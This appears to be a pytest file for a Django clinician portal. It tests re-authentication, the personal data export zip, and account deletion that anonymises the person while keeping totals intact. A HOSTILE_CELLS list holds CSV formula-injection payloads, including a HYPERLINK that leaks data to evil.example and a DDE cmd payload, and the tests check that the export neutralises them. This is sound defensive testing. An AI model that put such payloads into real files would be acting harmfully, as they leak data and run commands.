"""My data: re-authentication, the export zip, and account deletion that keeps the totals true."""

import csv
import io
import json
import zipfile

import pytest
from allauth.account.models import EmailAddress
from allauth.mfa.models import Authenticator
from django.core.files.base import ContentFile
from django.db.models import Count, Sum
from django.urls import reverse

from advocacy_portal.services import account_delete
from campaigns.models import Activity
from clinicians.models import Credential, SocialAccount
from core.models import Notification, User
from incentives.models import LedgerEntry, Score
from tests.dashboard.factories import (
    AwardFactory,
    LedgerEntryFactory,
    NotificationFactory,
    RedemptionFactory,
    ScoreFactory,
    SocialAccountFactory,
)
from tests.factories import DEFAULT_PASSWORD, ActivityFactory, CredentialFactory, ParticipationFactory

pytestmark = pytest.mark.django_db


def _reauthenticate(client) -> None:
    response = client.post(reverse("account_reauthenticate"), {"password": DEFAULT_PASSWORD})
    assert response.status_code == 302, response.content.decode()[:2000]


@pytest.fixture
def rich_clinician(clinician_user):
    clinician = clinician_user.clinician
    credential = CredentialFactory(clinician=clinician, identifier="1234567893")
    credential.evidence_content_type = "application/pdf"
    credential.evidence_original_name = "licence.pdf"
    credential.evidence.save("licence.pdf", ContentFile(b"%PDF-1.4 secret evidence"), save=True)
    SocialAccountFactory(clinician=clinician, handle="dralice")
    activity = ActivityFactory(
        clinician=clinician, excerpt="Vaccines are safe", citations=["10.1000/xyz"], impressions=4321
    )
    ActivityFactory(clinician=clinician, disclosure="disclosed", disclosure_text="Consultant for Acme")
    LedgerEntryFactory(clinician=clinician, activity=activity, amount=30)
    LedgerEntryFactory(clinician=clinician, amount=-5, kind="adjustment")
    ScoreFactory(clinician=clinician, lifetime=25, balance=25)
    AwardFactory(clinician=clinician, badge__name="First voice")
    RedemptionFactory(clinician=clinician)
    ParticipationFactory(clinician=clinician)
    NotificationFactory(user=clinician_user, title="Badge earned")
    Authenticator.objects.create(user=clinician_user, type=Authenticator.Type.TOTP, data={"secret": "x"})
    return clinician


def test_anonymous_is_sent_to_login(client):
    response = client.get(reverse("my_data"))
    assert response.status_code == 302
    assert reverse("account_login") in response["Location"]


def test_a_stale_session_is_asked_for_the_password(client, clinician_user):
    client.force_login(clinician_user)
    for response in (
        client.get(reverse("my_data")),
        client.post(reverse("my_data_download")),
        client.post(reverse("account_delete"), {"confirm": "DELETE"}),
    ):
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_reauthenticate"))
    assert User.objects.get(pk=clinician_user.pk).is_active
    _reauthenticate(client)
    response = client.get(reverse("my_data"))
    assert response.status_code == 200
    assert "Download my data" in response.content.decode()


def test_the_export_holds_every_dataset_as_json_and_csv(client, rich_clinician):
    user = rich_clinician.user
    client.force_login(user)
    _reauthenticate(client)
    response = client.post(reverse("my_data_download"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert "attachment" in response["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = set(archive.namelist())
    for dataset in (
        "profile",
        "credentials",
        "social_accounts",
        "activities",
        "ledger",
        "badges",
        "redemptions",
        "notifications",
        "campaigns",
    ):
        assert f"{dataset}.json" in names and f"{dataset}.csv" in names, dataset
    profile = json.loads(archive.read("profile.json"))[0]
    assert profile["email"] == user.email
    assert profile["display_name"] == rich_clinician.display_name
    credentials = json.loads(archive.read("credentials.json"))
    assert credentials[0]["identifier"] == "1234567893"
    assert credentials[0]["evidence_original_name"] == "licence.pdf"
    assert not any(b"secret evidence" in archive.read(name) for name in names)
    assert json.loads(archive.read("social_accounts.json"))[0]["handle"] == "dralice"
    assert {row["amount"] for row in json.loads(archive.read("ledger.json"))} == {30, -5}
    assert json.loads(archive.read("badges.json"))[0]["badge__name"] == "First voice"
    assert "Vaccines are safe" in archive.read("activities.csv").decode()
    assert json.loads(archive.read("notifications.json"))[0]["title"] == "Badge earned"


def test_delete_needs_the_word_delete_and_changes_nothing_otherwise(client, rich_clinician):
    client.force_login(rich_clinician.user)
    _reauthenticate(client)
    response = client.post(reverse("account_delete"), {"confirm": "delete"})
    assert response.status_code == 400
    assert "Type DELETE in capital letters" in response.content.decode()
    assert 'aria-invalid="true"' in response.content.decode()
    assert User.objects.get(pk=rich_clinician.user.pk).is_active
    assert Credential.objects.filter(clinician=rich_clinician).exists()


def _totals() -> dict:
    return {
        "ledger": LedgerEntry.objects.aggregate(total=Sum("amount"), rows=Count("pk")),
        "scores": Score.objects.aggregate(lifetime=Sum("lifetime"), balance=Sum("balance")),
        "activities": list(
            Activity.objects.values("category", "platform", "status")
            .annotate(rows=Count("pk"), impressions=Sum("impressions"))
            .order_by("category", "platform", "status")
        ),
    }


def test_delete_anonymises_the_person_and_keeps_the_totals(client, rich_clinician, django_capture_on_commit_callbacks):
    user = rich_clinician.user
    evidence_name = Credential.objects.get(clinician=rich_clinician).evidence.name
    storage = Credential._meta.get_field("evidence").storage
    assert storage.exists(evidence_name)
    before = _totals()
    client.force_login(user)
    _reauthenticate(client)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("account_delete"), {"confirm": "DELETE"})
    assert response.status_code == 302 and response["Location"] == reverse("home")
    assert _totals() == before

    user.refresh_from_db()
    rich_clinician.refresh_from_db()
    assert user.email.endswith("@deleted.invalid") and "alice" not in user.email
    assert not user.has_usable_password() and not user.is_active
    assert not EmailAddress.objects.filter(user=user).exists()
    assert not Authenticator.objects.filter(user=user).exists()
    assert not Notification.objects.filter(user=user).exists()
    assert rich_clinician.display_name.startswith("Deleted clinician ")
    assert (rich_clinician.organisation, rich_clinician.bio, rich_clinician.state) == ("", "", "")
    assert not rich_clinician.public_profile and not rich_clinician.leaderboard_opt_in
    assert not Credential.objects.filter(clinician=rich_clinician).exists()
    assert not storage.exists(evidence_name)
    assert not SocialAccount.objects.filter(clinician=rich_clinician).exists()
    activities = list(Activity.objects.filter(clinician=rich_clinician))
    assert all(a.url.startswith("https://deleted.invalid/activity/") for a in activities)
    assert len({a.url for a in activities}) == len(activities)
    assert all(a.excerpt == "" and a.citations == [] for a in activities)
    assert not any("Acme" in a.disclosure_text for a in activities)
    # Signed out: the dashboard asks for a login again, and the old password no longer works.
    assert client.get(reverse("dashboard")).status_code == 302
    assert not client.login(email="alice@example.org", password=DEFAULT_PASSWORD)


def test_two_deleted_accounts_get_distinct_addresses(rich_clinician, other_clinician_user):
    account_delete(user=rich_clinician.user)
    account_delete(user=other_clinician_user)
    emails = list(User.objects.filter(email__endswith="@deleted.invalid").values_list("email", flat=True))
    assert len(set(emails)) == 2


def test_a_user_without_a_clinician_profile_can_export_and_delete(staff_user):
    from advocacy_portal.services import my_data_export

    archive = zipfile.ZipFile(io.BytesIO(my_data_export(user=staff_user)))
    assert json.loads(archive.read("profile.json"))[0]["email"] == "staff@example.org"
    assert "credentials.json" not in archive.namelist()
    account_delete(user=staff_user)
    staff_user.refresh_from_db()
    assert not staff_user.is_active and staff_user.email.endswith("@deleted.invalid")


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|x",
]


def _export_tables(user) -> dict[str, list[dict]]:
    from advocacy_portal.services import my_data_export

    with zipfile.ZipFile(io.BytesIO(my_data_export(user=user))) as archive:
        return {
            name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def test_the_export_csv_writes_formula_cells_as_text(clinician_user):
    clinician = clinician_user.clinician
    clinician.display_name, clinician.bio, clinician.organisation = HOSTILE_CELLS[:3]
    clinician.save()
    ActivityFactory(clinician=clinician, excerpt=HOSTILE_CELLS[1], disclosure_text=HOSTILE_CELLS[0])
    LedgerEntryFactory(clinician=clinician, amount=-5, kind="adjustment", memo=HOSTILE_CELLS[3])
    NotificationFactory(user=clinician_user, title=HOSTILE_CELLS[2], body=HOSTILE_CELLS[0])

    tables = _export_tables(clinician_user)

    profile = tables["profile"][0]
    assert [profile["display_name"], profile["bio"], profile["organisation"]] == ["'" + v for v in HOSTILE_CELLS[:3]]
    activity = tables["activities"][0]
    assert (activity["excerpt"], activity["disclosure_text"]) == ("'" + HOSTILE_CELLS[1], "'" + HOSTILE_CELLS[0])
    entry = tables["ledger"][0]
    # The memo is text and quoted; the negative amount is a number and is written as it is.
    assert (entry["memo"], entry["amount"]) == ("'" + HOSTILE_CELLS[3], "-5")
    notification = tables["notifications"][0]
    assert (notification["title"], notification["body"]) == ("'" + HOSTILE_CELLS[2], "'" + HOSTILE_CELLS[0])
    every_cell = [cell for rows in tables.values() for row in rows for cell in row.values()]
    assert not [cell for cell in every_cell if cell[:1] in {"=", "+", "@"} or (cell[:1] == "-" and cell != "-5")]


def test_the_export_json_keeps_the_values_as_entered(clinician_user):
    clinician = clinician_user.clinician
    clinician.bio = HOSTILE_CELLS[0]
    clinician.save()
    from advocacy_portal.services import my_data_export

    with zipfile.ZipFile(io.BytesIO(my_data_export(user=clinician_user))) as archive:
        assert json.loads(archive.read("profile.json"))[0]["bio"] == HOSTILE_CELLS[0]


# Retained by design (README "Audit trail"): the append-only audit trail keeps the history of changes.
NOT_SCANNED = {"auditlog.LogEntry"}


def _stored_text() -> str:
    """Every row of every table (but the audit trail), serialised: what the database still holds."""
    from django.apps import apps
    from django.core import serializers

    return "\n".join(
        serializers.serialize("json", model._base_manager.all())
        for model in apps.get_models()
        if model._meta.label not in NOT_SCANNED and not model._meta.proxy
    )


def test_after_deletion_nothing_stored_identifies_the_person_and_the_figures_stay(client, rich_clinician):
    """The gaps closed late: linked identities, activity imports, short links, lessons read, API
    tokens and allauth's provider accounts are in the export and leave nothing identifying behind."""
    import datetime as dt

    from allauth.socialaccount.models import SocialAccount as ProviderLogin
    from allauth.socialaccount.models import SocialApp, SocialToken
    from django.utils import timezone

    from api.models import Scope
    from api.services import token_create
    from campaigns.activity_import import activity_import_preview
    from campaigns.participation import tracked_links_ensure
    from clinicians.models import IdentityKind, LinkedIdentity
    from learning import services as learning_services
    from learning.models import LessonProgress
    from reports import selectors
    from tests.campaigns.factories import ToolkitItemFactory
    from tests.learning.factories import ModuleFactory

    clinician, user = rich_clinician, rich_clinician.user
    clinician.display_name = "Dr Alicia Quimby-Markwell"
    clinician.save()
    LinkedIdentity.objects.create(
        clinician=clinician,
        kind=IdentityKind.DOXIMITY,
        account_id="dox-5550123",
        name="Alicia Quimby",
        npi="1982736450",
    )
    day = (timezone.localdate() - dt.timedelta(days=1)).isoformat()
    activity_import_preview(
        clinician=clinician,
        raw=(
            f"url,posted_at,category,excerpt\nhttps://x.com/quimbymd/status/77,{day},public_education,Quimby says\n"
        ).encode(),
        filename="quimby-posts.csv",
    )
    item = ToolkitItemFactory(url="https://www.cdc.gov/flu/prevent/keyfacts.htm")
    code = tracked_links_ensure(clinician=clinician, items=[item])[item.pk].code
    for _ in range(2):
        client.get(f"/l/{code}")
    module = ModuleFactory()
    learning_services.lesson_mark_read(clinician=clinician, lesson=module.lessons.first())
    token = token_create(user=user, name="Quimby laptop", scopes=[Scope.ACTIVITIES_READ], days=30)
    app = SocialApp.objects.create(provider="doximity", name="Doximity", client_id="id", secret="app-secret")
    login = ProviderLogin.objects.create(user=user, provider="doximity", uid="dox-5550123", extra_data={"npi": "x"})
    SocialToken.objects.create(app=app, account=login, token="oauth-token-quimby", token_secret="")

    client.force_login(user)
    _reauthenticate(client)
    archive = zipfile.ZipFile(io.BytesIO(client.post(reverse("my_data_download")).content))

    def read(name: str) -> list[dict]:
        return json.loads(archive.read(f"{name}.json"))

    assert read("linked_identities")[0]["npi"] == "1982736450"
    assert read("activity_imports")[0]["filename"] == "quimby-posts.csv"
    assert (read("short_links")[0]["code"], read("short_links")[0]["clicks"]) == (code, 2)
    assert len(read("learning_lessons_read")) == 1
    assert read("api_tokens")[0]["name"] == "Quimby laptop"
    assert read("connected_providers")[0]["uid"] == "dox-5550123"
    assert token.secret.encode() not in b"".join(archive.read(name) for name in archive.namelist())

    today = timezone.localdate()
    scope = selectors.ReportScope(today - dt.timedelta(days=365), today, campaign=item.campaign)
    figures = (
        selectors.campaign_tracked_links(scope=scope),
        dict(selectors.summary_overview(scope=scope))[selectors.TRACKED_CLICKS_MEASURE],
    )
    markers = [
        "alice@example.org",
        "Quimby",
        "Markwell",
        "dox-5550123",
        "1982736450",
        "quimbymd",
        f'"{code}"',
        "oauth-token-quimby",
        user.password,
    ]
    stored = _stored_text()
    assert all(marker in stored for marker in markers)

    response = client.post(reverse("account_delete"), {"confirm": "DELETE"})

    assert response.status_code == 302
    stored = _stored_text()
    assert [marker for marker in markers if marker in stored] == []
    assert not LessonProgress.objects.filter(clinician=clinician).exists()
    assert not ProviderLogin.objects.filter(user=user).exists()
    assert client.get("/api/v1/me/", HTTP_AUTHORIZATION=f"Bearer {token.secret}").status_code == 401
    assert client.get(f"/l/{code}").status_code == 404
    assert (
        selectors.campaign_tracked_links(scope=scope),
        dict(selectors.summary_overview(scope=scope))[selectors.TRACKED_CLICKS_MEASURE],
    ) == figures
